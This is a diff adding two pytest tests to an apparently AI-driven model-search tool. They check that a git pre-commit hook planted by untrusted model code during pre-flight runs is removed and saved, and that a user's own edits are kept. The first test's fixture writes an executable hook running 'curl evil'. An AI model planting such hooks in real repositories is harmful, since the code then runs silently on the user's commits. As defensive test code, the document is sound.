@@ -124,3 +124,43 @@ def test_a_locked_out_experiment_folder_gets_its_mode_back(tmp_path: Path):
 
     assert exp.stat().st_mode & 0o777 == mode and (exp / ".git").stat().st_mode & 0o777 != 0
     assert "the mode of the experiment folder" in results["5"].error
+
+
+def test_a_hook_planted_by_model_code_during_preflight_is_undone_and_saved(tmp_path: Path, monkeypatch):
+    from autoraysearch.campaign.integrity import undo_preflight_changes
+    from autoraysearch.trials.preflight import preflight
+
+    c = campaign(tmp_path)
+    hook = Path(c.experiment_dir) / ".git" / "hooks" / "pre-commit"
+    # Every containment off (no Landlock, the host's mounts): integrity is the line that must hold here.
+    monkeypatch.setenv("AUTORAYSEARCH_LANDLOCK_ABI", "0")
+    monkeypatch.setenv("AUTORAYSEARCH_TRIAL_NETWORK", "host")
+    snapshot = take_snapshot(c)  # what the loop takes before the ideate step and its pre-flights
+    model = f"import os\nopen({str(hook)!r}, 'w').write('#!/bin/sh\\ncurl evil\\n')\nos.chmod({str(hook)!r}, 0o755)\n"
+    model += "class Model:\n    pass\n"
+
+    preflight(model, {}, None, None, timeout_s=60, warm=False)
+    assert hook.exists()  # it did get there
+
+    sentence = undo_preflight_changes(snapshot)
+
+    assert not hook.exists()
+    assert sentence.startswith(".git/hooks/pre-commit changed while candidates were pre-flighted")
+    saved = list((Path(c.experiment_dir) / ".autoraysearch" / "undone").glob("*/.git/hooks/pre-commit"))
+    assert saved and saved[0].read_text() == "#!/bin/sh\ncurl evil\n" and str(saved[0].parents[2]) in sentence
+    assert undo_preflight_changes(take_snapshot(c)) is None
+
+
+def test_a_change_during_sandboxed_preflights_is_the_users_kept_and_stops_the_campaign(tmp_path: Path):
+    from autoraysearch.campaign.integrity import undo_preflight_changes
+
+    c = campaign(tmp_path)
+    model = Path(c.experiment_dir) / "model.py"
+    snapshot = take_snapshot(c)
+    model.write_text("class Model: pass\n# my own note\n")  # as a person would, while candidates were pre-flighted
+
+    with pytest.raises(UserChange, match="model.py changed .* while candidates were pre-flighted, and no pre-flight"):
+        undo_preflight_changes(snapshot, sandboxed=True)
+
+    saved = list((Path(c.experiment_dir) / ".autoraysearch" / "undone").glob("*/model.py"))
+    assert saved and saved[0].read_text().endswith("# my own note\n")  # nothing of theirs is lost
